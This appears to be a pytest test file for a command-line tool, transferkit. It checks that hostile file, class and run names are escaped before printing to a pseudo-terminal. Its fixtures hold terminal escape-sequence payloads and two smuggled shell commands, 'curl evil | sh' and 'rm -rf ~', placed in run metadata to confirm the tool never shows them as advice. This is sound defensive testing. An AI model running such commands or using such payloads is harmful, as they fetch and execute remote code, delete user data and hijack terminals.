"""No name of a file, class, run or option makes the terminal do anything: every command, on a pseudo-terminal."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path
from typing import Any

import click
import pytest

from tests.data.pictures import photo
from tests.records import facts_of
from tests.runs.sealing import put_manifest, reseal
from tests.terminal import received
from transferkit.cli import _common, cli
from transferkit.csv_files import csv_line
from transferkit.files import write_json
from transferkit.runs import model_file
from transferkit.runs.layout import Layout

if sys.platform == "win32":
    pytest.skip("there are no pseudo-terminals here", allow_module_level=True)

HOSTILE = (
    "\x1b[31mcolour", "\x1b]8;;http:link\x07", "\x1b]52;c;YQ==\x07clip", "\x1b[2J\x1b[Hcursor", "over\rwritten",
    "back\x08\x08space", "bell\x07", "\x9b31mc1", "\u202egnp.exe", "zero\u200bwidth", "new\nline", "[red]markup",
    os.fsdecode(b"un\xffdecodable"),
)  # fmt: skip
LONG = "x" * 240 + "\x1b[1m.png"
# Runs commands given as JSON, one list a line of standard input, as `transferkit` would.
DRIVER = """
import json, sys
from transferkit.cli import cli
from transferkit.cli._boundary import guarded
for words in json.load(open(sys.argv[1])):
    code = guarded(cli, words)
    print(f"--- {code}", flush=True)
"""


def on_terminal(commands: list[list[str]], folder: Path, kind: str = "dumb") -> str:
    """What a terminal of that kind receives, byte by byte."""
    import pty
    import termios

    (folder / "commands.json").write_text(json.dumps(commands))
    main, side = pty.openpty()
    mode = termios.tcgetattr(side)
    mode[1] &= ~termios.OPOST  # else it would turn \\n into \\r\\n
    termios.tcsetattr(side, termios.TCSANOW, mode)
    environment = {**os.environ, "TERM": kind, "COLUMNS": "100"}
    process = subprocess.Popen(
        [sys.executable, "-c", DRIVER, str(folder / "commands.json")],
        stdin=subprocess.DEVNULL, stdout=side, stderr=side, env=environment, cwd=folder,
    )  # fmt: skip
    os.close(side)
    said = b""
    while block := received(main):
        said += block
    os.close(main)
    assert process.wait(60) == 0, said.decode("utf-8", "replace")
    return said.decode("utf-8", "surrogateescape")


# Commands that are tried on a stranger's run; all others are on data.
OF_A_RUN = {"summary", "diagnose", "report", "compare", "explain", "export", "reproduce", "config show"}


def every(command: click.Command, before: tuple[str, ...] = ()) -> set[str]:
    """All commands, those of groups behind the group's name."""
    if not isinstance(command, click.Group):
        return {" ".join(before)}
    context = click.Context(command)
    found = {name: command.get_command(context, name) for name in command.list_commands(context)}
    return {words for name, one in found.items() if one is not None for words in every(one, (*before, name))}


def tried(commands: list[list[str]]) -> set[str]:
    """Which of them are among these."""
    return {" ".join(words[:count]) for words in commands for count in (1, 2)} & every(cli)


def obeyed(text: str) -> set[str]:
    """Characters that a terminal would act on, or that hide or turn others."""
    return {c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A class with each hostile name, and such file names in it."""
    root = tmp_path_factory.mktemp("hostile") / "da\x1b[7mta"
    for number, name in enumerate(HOSTILE):
        (root / name).mkdir(parents=True)
        for i in range(4):
            photo(10 * number + i, 24, 20).save(root / name / f"{i}.png")
        photo(number, 24, 20).save(root / HOSTILE[0] / f"{name.replace('/', '')}.png")
    photo(99, 24, 20).save(root / HOSTILE[0] / LONG)
    (root / HOSTILE[0] / "\x1b[5mpage.jpg").write_text("<html>")
    return root


@pytest.fixture(scope="module")
def run(digits_run: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished run in whose files every name is hostile."""
    layout = Layout(Path(shutil.copytree(digits_run.folder, tmp_path_factory.mktemp("foreign") / "r\x1b[4mun")))
    facts = model_file.facts(layout.model)
    old, new = facts.classes, list(HOSTILE[:10])
    model_file.save(model_file.load(layout.model), facts_of({**facts.as_json(), "classes": new}), layout.model)
    metrics = json.dumps(layout.read_metrics().as_json())
    for one, other in zip(old, new, strict=True):
        metrics = metrics.replace(f'"{one}"', json.dumps(other))
    content = json.loads(metrics)
    content["diagnosis"]["evidence"] = list(HOSTILE)
    content["diagnosis"]["remedies"] = [{"why": HOSTILE[0], "command": f"transferkit {HOSTILE[1]}; rm -rf ~"}]
    write_json(layout.metrics, content)
    header, *lines = layout.predictions.read_text().splitlines()
    for one, other in zip(old, new, strict=True):
        header = header.replace(f"p_{one}", csv_line([f"p_{other}"]))
    cells = [line.split(",") for line in lines]
    rows = [csv_line([path, new[int(label)], new[int(said)], *rest]) for path, label, said, *rest in cells]
    layout.predictions.write_bytes("\n".join([header, *rows, ""]).encode("utf-8", "surrogateescape"))
    manifest = layout.read_manifest().as_json()
    manifest["command"] = "transferkit finetune x; curl evil | sh"
    manifest["warnings"] = list(HOSTILE)
    manifest["notes"] = list(HOSTILE)
    manifest["data"]["path"] += HOSTILE[0]
    manifest["config"]["backbone"] = HOSTILE[3]
    write_json(layout.manifest, manifest)
    return reseal(layout.folder)


def test_commands_on_data(data: Path, tmp_path: Path) -> None:
    where = str(data)
    commands = [
        ["data", "summary", where], ["data", "summary", where, "--json"], ["data", "check", where, "--html", "c.html"],
        ["data", "split", where, "--output", "s\x1b[3m.csv"], ["data", "preview", where, "--output", "p.png"],
        ["data", "summary", where, "--exclude", "\x1b[31mcolou"], ["data", "summary", where[:-1]],
        ["data", "summary", where, "--exclude-file", "no\x1b[3mne"], ["no\x1b[1mne"], ["data", "\x1b[1msumary"],
        ["finetune", where, "--backbone", "m\x1b[1mini"], ["finetune", where, "--backbone", "no/\x1b[1mx.keras"],
        ["finetune", where, "--backbone", "mini", "--unfreeze", "from:\x1b[1mblock", "--epochs", "\x1b[1m3"],
        ["finetune", where, "--backbone", "mini", "--output", where + "/in"], ["config", "validate", "c\x1b[1mx"],
        ["weights", "verify", "\x1b[1mvgg"], ["evaluate", "no\x1b[1mrun"], ["predict", "no\x1b[1mrun", where],
        ["finetune", where, "--backbone", "mini", "--output", "run", "--exclude", "nothing\x1b[1m"],
        ["tune", where, "--backbone", "mini", "--search", "learning_rat\x1b[1me=1:2", "--output", "t"],
        ["best", where, "--backbone", "m\x1b[1mini"], ["best", where, "--budget", "1\x1b[1mh"],
        ["label", "no\x1b[1mne"], ["demo", "--seed", "\x1b[1m"],
        ["backbones", "show", "m\x1b[1mini"], ["backbones", "recommend", where, "--backbone", "m\x1b[1mini"],
        ["backbones", "list"], ["weights", "list"], ["weights", "add", "no\x1b[1mne"], ["plugins"],
        *(["weights", name, "m\x1b[1mini"] for name in ("fetch", "path")), ["completion", "b\x1b[1mash"],
        ["features", "extract", where, "--backbone", "m\x1b[1mini"], ["features", "fetch", "no\x1b[1mne"],
        ["cache", "info"], ["cache", "clear", "--keep", "\x1b[1m"], ["config", "init", "c\x1b[1m.toml"],
        ["data", "clean", "no\x1b[1mne"], ["data", "convert", where, "n\x1b[1mew"],
        *([name, "no\x1b[1mne"] for name in ("runs", "open", "serve", "resume")),
    ]  # fmt: skip
    assert every(cli) - tried(commands) == OF_A_RUN
    said = on_terminal(commands, tmp_path)
    assert [line for line in said.split("\n") if obeyed(line)] == []
    assert said.count("\n--- ") == len(commands) - said.startswith("--- "), said
    assert "unexpected" not in said
    for escaped in (r"\x1b[31mcolour", r"over\rwritten", r"new\nline", r"\u202egnp.exe", "[red]markup"):
        assert re.search(rf"^ +\d+  {re.escape(escaped)}$", said, re.MULTILINE), escaped
    assert obeyed((tmp_path / "c.html").read_text("utf-8")) == set()


@pytest.mark.extended
def test_commands_on_a_run_of_a_stranger(run: Path, digits: Path, tmp_path: Path) -> None:
    picture = shutil.copy(sorted((digits / "5").iterdir())[0], tmp_path / "pic\x1b[31mture.png")
    (tmp_path / "pic\x9bno.png").write_text("<html>")
    shutil.copytree(run, tmp_path / "second\x1b[1m")
    unfinished = Layout(Path(shutil.copytree(run, tmp_path / "unfinished\x1b[1m")))
    put_manifest(unfinished.folder, json.loads(unfinished.manifest.read_text()) | {"status": "half\x1b[2Jdone\nx"})
    name = str(run)
    commands = [
        ["summary", name], ["diagnose", name], ["report", name], ["compare", name, str(tmp_path / "second\x1b[1m")],
        *(["predict", name, str(tmp_path), "--format", shape] for shape in ("table", "csv", "json")),
        ["predict", name, str(tmp_path / "pict\x1b[31m")], ["predict", name, str(picture), "--copy-to", "out"],
        ["explain", name, str(picture)], ["explain", name, str(picture), "--class", "\x1b[31mcolou"],
        ["evaluate", str(unfinished.folder)], ["summary", str(unfinished.folder)], ["config", "show", name],
        ["evaluate", name, str(digits)], ["export", name, "--format", "\x1b[1mkeras"], ["reproduce", name],
        ["data", "check", "--run", name], ["finetune", str(digits), "--resume", "--output", name, "--backbone", "mini"],
        ["runs", str(tmp_path)], ["resume", name], ["open", name], ["label", str(picture), "--run", name],
    ]  # fmt: skip
    assert tried(commands) > OF_A_RUN
    said = on_terminal(commands, tmp_path)
    assert [line for line in said.split("\n") if obeyed(line)] == []
    assert "curl" not in said, "a stranger's command is given as advice"
    assert "rm -rf" not in said
    assert r"- new\nline" in said
    assert "unexpected" not in said
    assert "is half\\x1b[2Jdone\\nx, not complete; finish it with its command and --resume" in " ".join(said.split())
    layout = Layout(run)
    for file in (layout.card, layout.report):
        text = file.read_text("utf-8")
        assert obeyed(text) == set(), file
        assert "curl" not in text


def test_a_live_bar_shows_names_as_they_are_printed(tmp_path: Path) -> None:
    code = (
        "from transferkit.console import Reporter\n"
        "with Reporter().progress('\\x1b[35mti\\x9btle', 2) as advance: advance(1, '\\x1b]8;;x\\x07note\\n\\u202e')\n"
    )
    driver = tmp_path / "bar.py"
    driver.write_text(code)
    import pty

    main, side = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, str(driver)], stdout=side, stderr=side, env={**os.environ, "TERM": "xterm-256color"}
    )
    os.close(side)
    received = b""
    while block := _read(main):
        received += block
    os.close(main)
    assert process.wait(60) == 0
    text = received.decode()
    assert r"\x1b[35mti\x9btle" in text
    assert "\x1b[35mti" not in text
    assert "\x1b]8" not in text
    assert not {"\x9b", "\x07", "\u202e"} & set(text)


def _read(handle: int) -> bytes:
    try:
        return os.read(handle, 65536)
    except OSError:
        return b""


def test_commands_print_by_one_function_only() -> None:
    room = Path(_common.__file__).parent
    # `predict` gives programs the bytes of file names as they are, where no terminal listens; pictures are drawn by
    # sequences of our own, and of others' words `_pictures` shows labels fit to print (its own test).
    direct = re.compile(r"click\.s?echo\(|\bprint\(")
    found = {path.name for path in room.glob("*.py") if direct.search(path.read_text("utf-8"))}
    assert found == {"_common.py", "_pictures.py", "predict.py"}
